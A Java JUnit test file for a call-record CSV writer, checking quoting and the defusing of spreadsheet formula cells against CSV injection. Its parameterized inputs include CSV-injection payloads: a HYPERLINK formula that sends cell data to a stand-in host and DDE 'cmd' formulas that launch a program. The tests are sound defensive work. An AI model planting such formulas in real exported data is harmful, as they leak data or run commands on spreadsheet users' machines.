package asia.oncaller.records;

import java.io.StringWriter;
import java.time.Instant;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV writer on its own: the header is the JSON field names, nulls are empty, and fields
 * with commas, quotes or line breaks are quoted so that a CSV reader gets the value back, and
 * cells a spreadsheet would run as a formula are neutralised (OWASP CSV injection).
 */
class CallRecordCsvTests {

	@Test
	void writesHeaderAndQuotesOnlyWhatNeedsIt() {
		StringWriter out = new StringWriter();
		CallRecordCsv.header(out);
		CallRecordCsv.record(out, new CallRecord("call-1", "PJ1", "AC1", "+4420", "A, B", "internal", "bob", null,
				"internal", "alice", "bob", null, false, "APP_TO_APP", "ENDED", "say \"hi\"", null,
				Instant.parse("2026-03-01T10:00:00.5Z"), null, null, null, 0L, null, "0.100000", "USD", null, null,
				null, null, 0, "line\nbreak"));

		List<List<String>> rows = CsvRows.parse(out.toString());
		assertThat(rows.get(0)).containsExactlyElementsOf(CallRecord.FIELDS);
		assertThat(rows.get(1)).hasSize(CallRecord.FIELDS.size())
			.startsWith("call-1", "PJ1", "AC1", "+4420", "A, B", "internal", "bob", "")
			.contains("say \"hi\"", "2026-03-01T10:00:00.500Z", "line\nbreak", "false", "0.100000");
		assertThat(out.toString()).contains("\"A, B\"", "\"say \"\"hi\"\"\"").endsWith("\r\n");
	}

	@Test
	void plainValuesStayUnquoted() {
		assertThat(CallRecordCsv.escape("+441234")).isEqualTo("+441234");
		assertThat(CallRecordCsv.escape("a\rb")).isEqualTo("\"a\rb\"");
	}

	@ParameterizedTest
	@CsvSource(delimiterString = " => ", quoteCharacter = '`', textBlock = """
			=HYPERLINK("http://evil.example/?"&A1) => `"'=HYPERLINK(""http://evil.example/?""&A1)"`
			+1+cmd|' /C calc'!A0 => `"'+1+cmd|' /C calc'!A0"`
			-2+3 => `"'-2+3"`
			@SUM(1+1)*cmd|' /C calc'!A0 => `"'@SUM(1+1)*cmd|' /C calc'!A0"`
			+44 20 7946 0018 => `"'+44 20 7946 0018"`
			""")
	void neutralisesCellsThatASpreadsheetRunsAsFormulas(String value, String written) {
		assertThat(CallRecordCsv.escape(value)).isEqualTo(written);
	}

	@Test
	void neutralisesCellsStartingWithTabOrCarriageReturn() {
		assertThat(CallRecordCsv.escape("\t=1+1")).isEqualTo("\"'\t=1+1\"");
		assertThat(CallRecordCsv.escape("\r=1+1")).isEqualTo("\"'\r=1+1\"");
	}

	@ParameterizedTest
	@CsvSource({ "+441234", "-1.5", "0.100000", "alice", "a=b" })
	void leavesPlainNumbersAndInnerSignsAlone(String value) {
		assertThat(CallRecordCsv.escape(value)).isEqualTo(value);
	}

}
